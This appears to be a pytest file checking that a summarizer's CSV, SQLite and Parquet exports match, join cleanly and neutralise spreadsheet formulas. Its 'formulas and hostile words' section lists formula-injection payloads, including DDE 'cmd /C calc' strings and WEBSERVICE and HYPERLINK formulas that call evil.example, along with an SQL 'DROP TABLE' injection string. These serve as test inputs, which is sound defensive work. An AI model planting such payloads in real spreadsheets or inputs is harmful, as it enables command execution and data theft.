"""The export: tables that join, typed columns, nothing that runs in a spreadsheet, and nothing half-written."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
import sqlite3
import sys
import tracemalloc
from contextlib import ExitStack, closing
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from summarizer.batch.ledger import Ledger
from summarizer.errors import RunError, UsageError
from summarizer.export import export
from summarizer.export.columns import BRIEFS, EVIDENCE, STATEMENTS, TABLES
from summarizer.export.csv import cell, neutral
from summarizer.export.rows import rows_of
from summarizer.site.folder import BriefFolder, Entry
from tests import briefs
from tests.corpora import CORPORA, hands
from tests.folders import copy, line, write_batch
from tests.hostile import ATTACKS, MARKUP, texts

PAGE = Path(__file__).parents[1] / "docs" / "export.md"


@pytest.fixture
def out(tmp_path):
    lines = (
        line("a/one.txt", briefs.brief()),
        line("two.txt", briefs.brief()),
        copy("copy.txt", "two.txt", title="Same", outlet="Der Bote", published="2026-03-11"),
    )
    return write_batch(tmp_path / "out", *lines)


def read_csv(path):
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream, strict=True))


def as_csv(out):
    done = export(BriefFolder(out), "csv")
    return {path.stem: read_csv(path) for path in done.target.glob("*.csv")}


@pytest.fixture(scope="module")
def as_sqlite():
    """Export a folder and open what was written, until the last test ends."""
    with ExitStack() as opened:

        def exported(out):
            done = export(BriefFolder(out), "sqlite")
            database = opened.enter_context(closing(sqlite3.connect(done.target)))
            database.row_factory = sqlite3.Row
            return database

        yield exported


# --- the tables ---------------------------------------------------------------------------------------


def test_the_three_formats_hold_the_same_rows(out, as_sqlite):
    from pyarrow import parquet

    tables, database = as_csv(out), as_sqlite(out)
    folder = export(BriefFolder(out), "parquet").target
    assert set(tables) == {table.name for table in TABLES}
    for table in TABLES:
        columns = [column.name for column in table.columns]
        key = columns[: table.key]
        arrow = sorted(
            parquet.read_table(folder / f"{table.name}.parquet").to_pylist(), key=lambda r: [str(r[k]) for k in key]
        )
        found = sorted(
            map(dict, database.execute(f"SELECT * FROM {table.name}")), key=lambda r: [str(r[k]) for k in key]
        )
        rows = sorted(tables[table.name], key=lambda r: [r[k] for k in key])
        assert len(arrow) == len(found) == len(rows) > 0
        for in_arrow, in_sqlite, in_csv in zip(arrow, found, rows, strict=True):
            assert list(in_arrow) == list(in_sqlite) == list(in_csv) == columns
            for column in table.columns:
                _same(in_arrow[column.name], in_sqlite[column.name], in_csv[column.name], column.type)


def _same(arrow, sqlite, written, kind):
    if kind == "texts" and arrow is not None:
        assert json.loads(sqlite) == json.loads(written) == arrow
    elif kind in {"day", "moment"} and arrow is not None:
        assert sqlite == written == arrow.isoformat()
    elif kind in {"number", "integer"} and arrow is not None:
        assert sqlite == arrow == float(written)
    else:
        assert (sqlite or "") == (arrow or "")
        assert written in {arrow or "", f"'{arrow}"}


def test_what_a_brief_says_stands_in_its_tables(out):
    tables = as_csv(out)
    brief = briefs.brief()
    (row,) = (row for row in tables["briefs"] if row["brief_id"] == "two.txt")
    assert row["bottom_line"] == brief.bottom_line.text
    assert (row["cost"], row["created"], row["published"]) == ("0.00312", "2026-03-11T05:40:00+00:00", "2026-03-10")
    (threat,) = (r for r in tables["threats"] if r["statement_id"] == "two.txt#threats[0]")
    assert json.loads(threat["against"]) == ["Ellery Port Authority"]
    assert threat["condition"] == "unless the authority withdraws the transit fee"
    (step,) = (r for r in tables["next_steps"] if r["statement_id"] == "two.txt#next_steps[0]")
    assert (step["earliest"], step["latest"], step["precision"]) == ("2026-03-12", "2026-03-19", "either day")
    parts = {r["part"] for r in tables["statements"]}
    assert parts == {"headline", "bottom_line", "party", "wants", "stake", "threat", "next_step", "quotation"}
    (party,) = (r for r in tables["roles"] if r["statement_id"] == "two.txt#threats[0]" and r["role"] == "against")
    assert party["party_id"] == "two.txt#parties[1]"


def test_a_copy_has_a_row_and_names_its_origin(out):
    (row,) = (row for row in as_csv(out)["briefs"] if row["same_as"])
    assert (row["brief_id"], row["same_as"], row["outlet"], row["published"]) == (
        "copy.txt",
        "two.txt",
        "Der Bote",
        "2026-03-11",
    )
    assert row["statements"] == row["bottom_line"] == row["cost"] == ""


def test_every_id_joins(out, as_sqlite):
    database = as_sqlite(out)
    assert database.execute("PRAGMA foreign_key_check").fetchall() == []
    assert database.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    joined = """SELECT b.outlet, s.text, e.quote FROM evidence e JOIN statements s USING (statement_id)
                JOIN briefs b ON b.brief_id = s.brief_id WHERE s.part = 'threat' AND e.place = 'cited'"""
    assert len(database.execute(joined).fetchall()) == 4


def test_the_database_has_types_keys_and_indexes(out, as_sqlite):
    database = as_sqlite(out)
    made = dict(map(tuple, database.execute("SELECT name, sql FROM sqlite_master WHERE type = 'table'")))
    assert all("STRICT" in sql and "PRIMARY KEY" in sql for sql in made.values())
    plan = database.execute("EXPLAIN QUERY PLAN SELECT * FROM statements WHERE verdict = 'weak'").fetchone()["detail"]
    assert "USING INDEX" in plan


def test_parquet_columns_have_types(out):
    import pyarrow as pa
    from pyarrow import parquet

    folder = export(BriefFolder(out), "parquet").target
    schema = parquet.read_schema(folder / "briefs.parquet")
    assert schema.field("published").type == pa.date32()
    assert schema.field("cost").type == pa.float64()
    assert schema.field("gaps").type == pa.list_(pa.string())
    assert schema.field("created").type == pa.timestamp("us", tz="UTC")


def test_parquet_without_pyarrow_is_one_clear_line(out, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(UsageError, match=r"Parquet needs pyarrow; install summarizer\[parquet\]"):
        export(BriefFolder(out), "parquet")
    assert not (out / "parquet").exists()


def test_a_kind_of_one_s_own_gives_its_brief_its_statements_and_their_evidence():
    said = briefs.statement("It closes.", 1, 2).model_dump(mode="json")
    content = {
        "closed": said,
        "a.b": {"c": said},
        "a": {"b.c": said, "#": said},
        "more": [said, {"text": "no statement"}],
    }
    rows = rows_of(Entry("x.txt", None, briefs.custom(content)))
    paths = [row[2] for row in rows[STATEMENTS]]
    assert paths == [
        "content.closed",
        'content["a.b"].c',
        'content.a["b.c"]',
        'content.a["\\u0023"]',
        "content.more[0]",
    ]
    assert len(rows[EVIDENCE]) == 10
    assert all(not rows[table] for table in TABLES if table not in {BRIEFS, STATEMENTS, EVIDENCE})


def test_content_of_any_depth_does_not_overflow():
    deep = []
    for _ in range(5_000):
        deep = [deep]
    assert rows_of(Entry("x.txt", None, briefs.custom({"deep": deep})))[STATEMENTS] == []


def test_numbers_and_times_beyond_what_the_formats_hold_are_left_empty(tmp_path):
    brief = json.loads(briefs.brief().model_dump_json())
    brief["article"]["characters"] = 10**30
    brief["headline"]["evidence"][0]["start"] = 2**63
    brief["provenance"]["created"] = "0001-01-01T00:00:00+23:00"
    brief["provenance"]["cost"] = "1E+400"
    text = json.dumps({"id": "a.txt", "brief": brief})
    for to in ("csv", "parquet", "sqlite"):
        folder = BriefFolder(write_batch(tmp_path / to, text))
        assert export(folder, to).rows["briefs"] == 1
        assert folder.problems == []
    assert read_csv(tmp_path / "csv" / "csv" / "briefs.csv")[0]["characters"] == ""


# --- formulas and hostile words -----------------------------------------------------------------------

PAYLOADS = (
    *("1+1", 'HYPERLINK("https://evil.example","x")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "IMPORTXML(A1,A2)"),
    *('DDE("cmd";"/C calc";"x")', 'WEBSERVICE("https://evil.example/"&A1)', 'IMAGE("https://evil.example/x")'),
    *("1+1+cmd|' /C calc'!A0", 'RTD("evil.example","","x")', '1";=1+1'),
)
LEADERS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\x00=",
    " =",
    "\u3000=",
    "\ufeff=",
    "\u200b=",
    "＝",
    "＋",
    "－",
    "＠",
    "−",
    "|",
    "%",
)
FORMULAS = [leader + payload for leader in LEADERS for payload in PAYLOADS]
ACTIVE = re.compile(r"[\s\x00-\x20\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠−|%\t\r\n\x00]")


@pytest.mark.parametrize("text", [*FORMULAS, "\t", "\r", "\n", "\x00", "'=1", "'", "-", "- item", "+49 40"])
def test_a_formula_is_neutralised_and_can_be_had_back(text):
    written = cell(text)
    assert not ACTIVE.match(written)
    assert written[0] == "'"
    assert written[1:] == text


@given(texts(surrogates=False))
def test_taking_one_apostrophe_away_gives_any_text_back(text):
    written = neutral(text)
    assert not ACTIVE.match(written)
    assert (written.removeprefix("'")) == text


def test_a_number_is_a_number_even_if_it_is_negative():
    assert (cell(-3), cell(-0.5), cell(dt.date(2026, 1, 2)), cell(()), cell(None)) == (
        "-3",
        "-0.5",
        "2026-01-02",
        "[]",
        "",
    )


HOSTILE = [
    *FORMULAS[::2],
    *ATTACKS,
    *MARKUP,
    'a"b',
    '"',
    '""',
    "a,b",
    "a;b",
    "a\r\nb",
    "a\nb",
    "\r\n",
    '",=1',
    "'); DROP TABLE briefs; --",
]


def _hostile(out):
    words = iter(HOSTILE * 2)
    lines = []
    for number in range(len(HOSTILE)):
        word = next(words)
        lines.append(
            line(
                f"{number}/{word}", briefs.with_words(briefs.brief(), lambda _, w=word: (w.strip() and w[:190]) or "x")
            )
        )
    return write_batch(out, *lines)


def test_hostile_words_in_every_field_come_back_as_they_are_from_every_format(tmp_path, as_sqlite):
    from pyarrow import parquet

    out = _hostile(tmp_path / "out")
    expected = {entry.id: entry.brief for entry in BriefFolder(out)}
    assert len(expected) >= 200 - 20
    tables, database = as_csv(out), as_sqlite(out)
    folder = export(BriefFolder(out), "parquet").target
    arrow = {row["statement_id"]: row["text"] for row in parquet.read_table(folder / "statements.parquet").to_pylist()}
    assert database.execute("SELECT count(*) FROM briefs").fetchone()[0] == len(expected)
    for row in tables["briefs"]:
        name = row["brief_id"].removeprefix("'")
        assert row["title"].removeprefix("'") == expected[name].article.title
        line_ = expected[name].bottom_line.text
        assert row["bottom_line"].removeprefix("'") == line_
        got = database.execute("SELECT bottom_line FROM briefs WHERE brief_id = ?", (name,)).fetchone()[0]
        assert got == line_ == arrow[f"{name}#bottom_line"]
    for rows in tables.values():
        assert not [value for row in rows for name, value in row.items() if ACTIVE.match(value)]


@pytest.mark.parametrize("corpus", CORPORA)
def test_every_family_of_attacks_in_every_field_comes_back_as_it_is(tmp_path, corpus, as_sqlite):
    dealt = (iter(hand) for hand in hands(corpus))
    lines = [line(f"{n}", briefs.with_words(briefs.brief(), lambda _, d=d: next(d))) for n, d in enumerate(dealt)]
    out = write_batch(tmp_path / "out", *lines)
    tables, database = as_csv(out), as_sqlite(out)
    expected = {table.name: [row for entry in BriefFolder(out) for row in rows_of(entry)[table]] for table in TABLES}
    assert len(expected["briefs"]) == len(lines)
    for table in TABLES:
        written = [list(row.values()) for row in tables[table.name]]
        assert not [value for row in written for value in row if ACTIVE.match(value)]
        given = sorted([_plain(value) for value in row] for row in expected[table.name])
        assert sorted([value.removeprefix("'") for value in row] for row in written) == given
        stored = database.execute(f"SELECT * FROM {table.name}")
        assert sorted([_plain(value) for value in row] for row in stored) == given


def _plain(value):
    return value if isinstance(value, str) else cell(value).removeprefix("'")


# --- files --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("to", ["csv", "parquet", "sqlite"])
def test_an_export_that_fails_leaves_what_was_there_and_nothing_else(out, to, monkeypatch):
    target = export(BriefFolder(out), to).target
    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}

    def failing(self):
        yield from ()
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(BriefFolder, "__iter__", failing)
    with pytest.raises(RunError, match="No space left on device"):
        export(BriefFolder(out), to, target)
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == before


def test_a_database_replaces_its_like_and_no_other_file(tmp_path):
    out = write_batch(tmp_path / "out", line("a.txt", briefs.brief()))
    for name, kept in (("ledger.sqlite", _ledger(tmp_path)), ("run.json", b"{}\n"), ("short", b"x")):
        (out / name).write_bytes(kept)
        with pytest.raises(UsageError, match="no export wrote it; name another place"):
            export(BriefFolder(out), "sqlite", out / name)
        assert (out / name).read_bytes() == kept
    (out / "empty").touch()
    for _ in range(2):
        assert export(BriefFolder(out), "sqlite", out / "empty").rows["briefs"] == 1


def _ledger(tmp_path):
    Ledger.open(tmp_path).close()
    return (tmp_path / "ledger.sqlite").read_bytes()


def test_nothing_is_made_where_there_is_nothing_to_export(tmp_path):
    (tmp_path / "empty").mkdir()
    for folder in (tmp_path / "nowhere", tmp_path / "empty"):
        for to in ("csv", "sqlite"):
            with pytest.raises(UsageError, match=r"is no folder|holds neither"):
                export(BriefFolder(folder), to)
    assert [path.name for path in tmp_path.rglob("*")] == ["empty"]


@pytest.mark.parametrize("to", ["csv", "parquet", "sqlite"])
def test_a_place_that_is_something_else_is_misuse(out, to):
    name = {"csv": "csv/briefs.csv", "parquet": "parquet/briefs.parquet", "sqlite": "briefs.sqlite"}[to]
    (out / name).parent.mkdir(exist_ok=True)
    (out / "elsewhere").write_text("mine")
    (out / name).symlink_to(out / "elsewhere")
    with pytest.raises(UsageError, match="is not a regular file"):
        export(BriefFolder(out), to)
    assert (out / "elsewhere").read_text() == "mine"


def test_a_folder_for_which_there_is_a_file_is_misuse(out):
    with pytest.raises(UsageError, match=r"briefs\.jsonl is not a folder"):
        export(BriefFolder(out), "csv", out / "briefs.jsonl")


def test_an_unknown_format_is_misuse(out):
    with pytest.raises(UsageError, match="choose one of csv, parquet, sqlite"):
        export(BriefFolder(out), "xls")


@pytest.mark.parametrize("to", ["csv", "parquet", "sqlite"])
def test_memory_does_not_grow_with_the_number_of_briefs(tmp_path, to, monkeypatch):
    monkeypatch.setattr("summarizer.export.parquet.GROUP", 100)

    def peak(count):
        out = write_batch(tmp_path / f"{count}", *(line(f"{n}.txt", briefs.brief()) for n in range(count)))
        tracemalloc.start()
        try:
            export(BriefFolder(out), to)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    peak(20)  # what is made once
    assert peak(240) < peak(40) + 1_000_000  # 200 briefs held would be several times that


# --- the documentation --------------------------------------------------------------------------------


def documented(table):
    """Write what the page says about a table."""
    rows = [f"| `{c.name}` | {c.type} | {c.meaning}{f' (→ `{c.joins}`)' if c.joins else ''} |" for c in table.columns]
    key = ", ".join(f"`{column.name}`" for column in table.columns[: table.key])
    return "\n".join(
        [f"### {table.name}", "", f"One row for each {key}.", "", "| column | type | meaning |", "|---|---|---|", *rows]
    )


def test_the_page_describes_every_column():
    text = PAGE.read_text(encoding="utf-8")
    expected = "\n\n".join(map(documented, TABLES))
    if os.environ.get("UPDATE_DOCS") == "1":
        text = re.sub(r"(?<=<!-- tables -->\n).*(?=<!-- end -->)", lambda _: expected + "\n", text, flags=re.DOTALL)
        PAGE.write_text(text, encoding="utf-8")
    assert f"<!-- tables -->\n{expected}\n<!-- end -->" in text


@settings(max_examples=30, deadline=None)
@given(st.lists(texts(), min_size=1, max_size=5, unique=True))
def test_any_identifiers_make_rows_that_join(tmp_path_factory, as_sqlite, names):
    out = write_batch(tmp_path_factory.mktemp("out"), *(line(name, briefs.brief()) for name in names))
    database = as_sqlite(out)
    assert {row[0] for row in database.execute("SELECT brief_id FROM briefs")} == set(names)
    assert database.execute("PRAGMA foreign_key_check").fetchall() == []
